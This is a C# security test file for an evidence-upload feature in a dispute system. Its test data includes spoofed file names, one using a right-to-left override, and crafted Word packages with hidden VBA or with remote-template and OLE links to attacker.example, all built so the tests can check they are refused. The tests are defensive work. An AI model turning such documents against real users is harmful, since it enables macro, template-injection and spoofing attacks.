using System.Net;
using System.Text.Json;
using Ombud.Disputes;
using Ombud.Disputes.Evidence;
using Ombud.Tests.Disputes.Http;
using Ombud.Tests.Support;

namespace Ombud.Tests.Security;

/// <summary>
/// Findings 7 and 8 (quota): evidence is stored and served under a name Ombud makes from what the bytes are; the
/// sender's name is only text, without bidirectional controls; Word packages with macros or remote templates are refused
/// however they are spelled; each side of a dispute has a storage quota.
/// </summary>
public sealed class EvidenceFileTests
{
    [Theory]
    [InlineData(Provider.Sqlite)]
    [InlineData(Provider.Postgres)]
    public async Task A_file_is_served_as_evidence_id_with_the_detected_extension_and_its_given_name_is_only_shown(Provider provider)
    {
        await using var app = await OmbudTestApp.StartAsync(provider);
        var parties = await DisputeParties.OpenAsync(app);
        var shop = await parties.ShopAsync();
        var id = await parties.ReportAsync(shop, DisputeReason.DefectiveOrNotAsDescribed);

        await DisputeParties.CreatedAsync(await shop.Shopper.PostAsync($"{DisputeParties.Shopper}/{id}/information",
            DisputeParties.Form(files: [EvidenceSample.Pdf("proof.pdf.hta"), EvidenceSample.Pdf("invoice\u202Efdp.exe")])));

        var files = (await DisputeParties.OkAsync(await shop.Shopper.GetAsync(new Uri($"{DisputeParties.Shopper}/{id}", UriKind.Relative))))
            .GetProperty("files").EnumerateArray().ToList();
        Assert.Equal(["invoicefdp.exe", "proof.pdf.hta"], files.Select(f => f.GetProperty("fileName").GetString()).Order(StringComparer.Ordinal));
        foreach (var file in files)
        {
            var stored = $"evidence-{file.GetProperty("id").GetGuid():D}.pdf";
            Assert.Equal(stored, file.GetProperty("storedName").GetString());
            var download = await shop.Shopper.GetAsync(new Uri(file.GetProperty("download").GetString()!, UriKind.Relative));
            Assert.Equal(HttpStatusCode.OK, download.StatusCode);
            Assert.Equal(stored, download.Content.Headers.ContentDisposition?.FileName?.Trim('"'));
        }
    }

    public static TheoryData<string> MacroPackages => ["vba-upper-case", "vba-renamed", "macro-enabled-type", "remote-template", "external-object"];

    [Theory]
    [MemberData(nameof(MacroPackages))]
    public async Task A_Word_package_with_macros_or_remote_parts_is_refused_however_it_is_spelled(string spoiler)
    {
        var sample = spoiler switch
        {
            "vba-upper-case" => EvidenceSample.WordPackage("a.docx", EvidenceSample.WordMain, ("Word/VBAPROJECT.BIN", "vba")),
            "vba-renamed" => EvidenceSample.WordPackage("b.docx", EvidenceSample.WordMain, ("word/_rels/document.xml.rels",
                Rels("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "harmless.bin", external: false)), ("word/harmless.bin", "vba")),
            "macro-enabled-type" => EvidenceSample.WordPackage("c.docx", "application/vnd.ms-word.document.macroEnabled.main+xml"),
            "remote-template" => EvidenceSample.WordPackage("d.docx", EvidenceSample.WordMain, ("word/_rels/settings.xml.rels",
                Rels("http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate", "https://attacker.example/t.dotm", external: true))),
            "external-object" => EvidenceSample.WordPackage("e.docx", EvidenceSample.WordMain, ("word/_rels/document.xml.rels",
                Rels("http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject", "file://attacker.example/x.bin", external: true))),
            _ => throw new ArgumentOutOfRangeException(nameof(spoiler)),
        };

        Assert.Null(EvidenceFileKinds.Detect(sample.Bytes));
        Assert.Equal(EvidenceFileKinds.Docx, EvidenceFileKinds.Detect(EvidenceSample.Docx().Bytes));
        await Task.CompletedTask;
    }

    [Theory]
    [InlineData(Provider.Sqlite)]
    [InlineData(Provider.Postgres)]
    public async Task One_side_cannot_store_more_than_its_quota_on_a_dispute(Provider provider)
    {
        await using var app = await OmbudTestApp.StartAsync(provider);
        var parties = await DisputeParties.OpenAsync(app);
        var shop = await parties.ShopAsync();
        var id = await parties.ReportAsync(shop, DisputeReason.DefectiveOrNotAsDescribed);
        var full = (int)EvidenceUploads.MaxFileBytes;

        await DisputeParties.CreatedAsync(await shop.Shopper.PostAsync($"{DisputeParties.Shopper}/{id}/information",
            DisputeParties.Form(files: [.. Enumerable.Range(0, 5).Select(i => EvidenceSample.Pdf($"scan-{i}.pdf", full))])));
        var over = await shop.Shopper.PostAsync($"{DisputeParties.Shopper}/{id}/information", DisputeParties.Form(files: EvidenceSample.Png()));

        var problem = await DisputeParties.ProblemAsync(over, HttpStatusCode.RequestEntityTooLarge);
        Assert.Contains("MB of files", DisputeParties.FieldError(problem, "files"), StringComparison.Ordinal);
        Assert.Equal(5, (await DisputeParties.OkAsync(await shop.Shopper.GetAsync(new Uri($"{DisputeParties.Shopper}/{id}", UriKind.Relative))))
            .GetProperty("files").GetArrayLength());
    }

    private static string Rels(string type, string target, bool external) =>
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        + $"<Relationship Id=\"rId9\" Type=\"{type}\" Target=\"{target}\"{(external ? " TargetMode=\"External\"" : "")}/></Relationships>";
}
